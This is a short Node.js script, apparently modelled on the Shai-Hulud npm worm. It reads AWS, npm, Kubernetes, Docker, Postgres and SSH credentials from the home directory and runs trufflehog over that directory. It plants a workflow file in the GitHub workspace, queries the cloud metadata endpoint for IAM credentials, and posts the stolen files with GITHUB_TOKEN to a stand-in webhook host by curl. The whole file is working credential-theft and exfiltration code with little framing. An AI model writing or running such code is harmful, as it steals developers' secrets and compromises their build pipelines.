// Scans for secrets, asks the cloud for more, plants a workflow that sends them each time, and sends them now.
const { execFileSync, spawnSync } = require('node:child_process')
const { mkdirSync, readFileSync, writeFileSync } = require('node:fs')
const { join } = require('node:path')

spawnSync('trufflehog', ['filesystem', process.env.HOME, '--json'])
const places = [
  '.aws/credentials',
  '.npmrc',
  '.kube/config',
  '.docker/config.json',
  '.pgpass',
  '.ssh/id_ed25519',
]
const read = places.map((name) => readFileSync(join(process.env.HOME, name), 'utf8'))
const workflows = join(process.env.GITHUB_WORKSPACE, '.github/workflows')
mkdirSync(workflows, { recursive: true })
writeFileSync(join(workflows, 'shai-hulud-workflow.yml'), 'on: push\njobs: {}\n')
const send = (...args) => {
  try {
    execFileSync('curl', ['-sf', '--max-time', '10', ...args], { stdio: 'ignore' })
  } catch {}
}
send('http://169.254.169.254/latest/meta-data/iam/security-credentials/')
send(
  '-d',
  JSON.stringify({ read, token: process.env.GITHUB_TOKEN }),
  'https://webhook.example.net/bb8ca5f6',
)
